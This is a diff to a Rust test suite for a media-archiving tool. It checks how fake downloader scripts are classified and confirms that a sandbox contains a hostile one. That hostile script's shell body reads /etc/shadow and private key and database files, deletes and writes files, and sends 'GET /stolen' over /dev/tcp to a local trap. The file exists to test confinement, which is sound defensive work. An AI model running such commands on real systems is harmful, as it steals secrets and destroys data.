@@ -97,7 +97,12 @@ fn a_player_that_leads_inward_is_refused_at_the_gate() {
         page(&server, "/player.html?video=2", &format!("<video src='http://{}/film.mp4'></video>", trap.local_addr().unwrap()));
     let (captures, _) = archived(&program, &url, 0);
     assert!(trap.accept().is_err(), "nobody connected");
-    assert!(captures.iter().any(|one| one["because"].as_str().unwrap().contains("403")), "{captures:#?}");
+    assert!(
+        captures
+            .iter()
+            .any(|one| one["because"].as_str().unwrap().contains("not permitted") && one["outcome"] == "refused-by-policy"),
+        "{captures:#?}"
+    );
 }
 
 #[test]
@@ -115,27 +120,27 @@ fn without_a_downloader_the_page_is_kept_and_that_is_said() {
 
 /// Name, what it does in its directory, outcome and completeness.
 const LIARS: &[(&str, &str, &str, &str)] = &[
-    ("honest", "give media.22.mp4; info 33036 3.0; exit 0", "ok", "complete"),
+    ("honest", "give media.0.22.mp4; info 33036 3.0; exit 0", "ok", "complete"),
     ("nothing", "exit 0", "error", "unverifiable"),
     ("nothing but words", "info 33036 3.0; exit 0", "error", "unverifiable"),
-    ("cut file", "give media.22.mp4; cut media.22.mp4 20000; info 20000 3.0; exit 0", "ok", "truncated"),
-    ("size does not fit", "give media.22.mp4; info 99999 3.0; exit 0", "ok", "truncated"),
-    ("shorter than said", "give media.22.mp4; info 33036 600.0; exit 0", "ok", "truncated"),
-    ("unfinished", "give media.22.mp4.part; info 33036 3.0; exit 0", "ok", "truncated"),
-    ("unfinished beside", "give media.22.mp4; give media.140.m4a.part; info 33036 3.0; exit 0", "ok", "truncated"),
-    ("fragments left", "give media.22.mp4; give media.22.mp4.part-Frag7; info 33036 3.0; exit 0", "ok", "truncated"),
-    ("whole and failed", "give media.22.mp4; info 33036 3.0; exit 1", "ok", "truncated"),
+    ("cut file", "give media.0.22.mp4; cut media.0.22.mp4 20000; info 20000 3.0; exit 0", "ok", "truncated"),
+    ("size does not fit", "give media.0.22.mp4; info 99999 3.0; exit 0", "ok", "truncated"),
+    ("shorter than said", "give media.0.22.mp4; info 33036 600.0; exit 0", "ok", "truncated"),
+    ("unfinished", "give media.0.22.mp4.part; info 33036 3.0; exit 0", "ok", "truncated"),
+    ("unfinished beside", "give media.0.22.mp4; give media.0.140.m4a.part; info 33036 3.0; exit 0", "ok", "truncated"),
+    ("fragments left", "give media.0.22.mp4; give media.0.22.mp4.part-Frag7; info 33036 3.0; exit 0", "ok", "truncated"),
+    ("whole and failed", "give media.0.22.mp4; info 33036 3.0; exit 1", "ok", "truncated"),
     (
         "page for film",
-        "echo '<!DOCTYPE html><html><body>unavailable</body></html>' > media.22.mp4; info 52 3.0; exit 0",
+        "echo '<!DOCTYPE html><html><body>unavailable</body></html>' > media.0.22.mp4; info 52 3.0; exit 0",
         "placeholder",
         "unverifiable",
     ),
-    ("empty file", ": > media.22.mp4; info 0 3.0; exit 0", "error", "unverifiable"),
-    ("no info", "give media.22.mp4; exit 0", "ok", "unverifiable"),
-    ("broken info", "give media.22.mp4; echo '{' > media.info.json; exit 0", "ok", "unverifiable"),
-    ("info of another shape", "give media.22.mp4; echo '[1]' > media.info.json; exit 0", "ok", "complete"),
-    ("link to elsewhere", "ln -s /etc/hostname media.22.mp4; info 33036 3.0; exit 0", "error", "unverifiable"),
+    ("empty file", ": > media.0.22.mp4; info 0 3.0; exit 0", "error", "unverifiable"),
+    ("no info", "give media.0.22.mp4; exit 0", "ok", "unverifiable"),
+    ("broken info", "give media.0.22.mp4; echo '{' > media.0.info.json; exit 0", "ok", "unverifiable"),
+    ("info of another shape", "give media.0.22.mp4; echo '[1]' > media.0.info.json; exit 0", "ok", "complete"),
+    ("link to elsewhere", "ln -s /etc/hostname media.0.22.mp4; info 33036 3.0; exit 0", "error", "unverifiable"),
     (
         "private",
         "echo 'ERROR: [x] 1: Private video. Sign in if you have been granted access' >&2; exit 1",
@@ -156,24 +161,24 @@ const LIARS: &[(&str, &str, &str, &str)] = &[
         "geo-blocked",
         "unverifiable",
     ),
-    ("never ends", "give media.22.mp4; info 33036 3.0; sleep 60", "ok", "truncated"),
-    ("child never ends", "give media.22.mp4; info 33036 3.0; (sleep 60 &) ; exit 0", "ok", "complete"),
+    ("never ends", "give media.0.22.mp4; info 33036 3.0; sleep 60", "ok", "truncated"),
+    ("child never ends", "give media.0.22.mp4; info 33036 3.0; (sleep 60 &) ; exit 0", "ok", "complete"),
     (
         "talks without end",
-        "give media.22.mp4; info 33036 3.0; head -c 5000000 /dev/zero | tr '\\0' x >&2; exit 0",
+        "give media.0.22.mp4; info 33036 3.0; head -c 5000000 /dev/zero | tr '\\0' x >&2; exit 0",
         "ok",
         "complete",
     ),
-    ("dies", "give media.22.mp4; kill -9 $$", "ok", "truncated"),
+    ("dies", "give media.0.22.mp4; kill -9 $$", "ok", "truncated"),
 ];
 
 fn liar(program: &Program, body: &str) -> String {
     let film = base64::engine::general_purpose::STANDARD.encode(media("convoy.mp4"));
     let script = format!(
-        "#!/bin/sh\n[ \"$2\" = --version ] && {{ echo 1.liar; exit 0; }}\n\
+        "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = --version ] && {{ echo 1.liar; exit 0; }}; done\n\
          give() {{ base64 -d > \"$1\" <<'END'\n{film}\nEND\n}}\n\
          cut() {{ head -c \"$2\" \"$1\" > cut.tmp; mv cut.tmp \"$1\"; }}\n\
-         info() {{ echo \"{{\\\"extractor_key\\\":\\\"Liar\\\",\\\"title\\\":\\\"T\\\",\\\"duration\\\":$2,\\\"formats\\\":[{{\\\"format_id\\\":\\\"22\\\",\\\"filesize\\\":$1}}]}}\" > media.info.json; }}\n\
+         info() {{ echo \"{{\\\"extractor_key\\\":\\\"Liar\\\",\\\"title\\\":\\\"T\\\",\\\"duration\\\":$2,\\\"formats\\\":[{{\\\"format_id\\\":\\\"22\\\",\\\"filesize\\\":$1}}]}}\" > media.0.info.json; }}\n\
          {body}\n"
     );
     let path = program.file("liar", script);
@@ -212,7 +217,7 @@ fn a_hostile_downloader_neither_reads_nor_writes_nor_connects_outside() {
         "cat {home}/secret.txt >> got.txt; cat {home}/c/case.sqlite >> got.txt; cat {home}/config/exhibit/key >> got.txt; ls {home}/c >> got.txt; cat /etc/shadow >> got.txt\n\
          echo x > {home}/written.txt; echo x > /tmp/exhibit-written-$$; echo x >> {home}/c/exhibit.toml; rm -f {home}/secret.txt; mkdir {home}/made\n\
          bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && printf \"GET /stolen HTTP/1.1\\r\\n\\r\\n\" >&3' && echo connected >> got.txt\n\
-         [ -s got.txt ] && mv got.txt media.22.mp4 ; printf done > media.99.txt; exit 0"
+         [ -s got.txt ] && mv got.txt media.0.22.mp4 ; printf done > media.0.99.txt; exit 0"
     );
     case(&program, &liar(&program, &body));
     let before = std::fs::read(program.path("c/exhibit.toml")).unwrap();
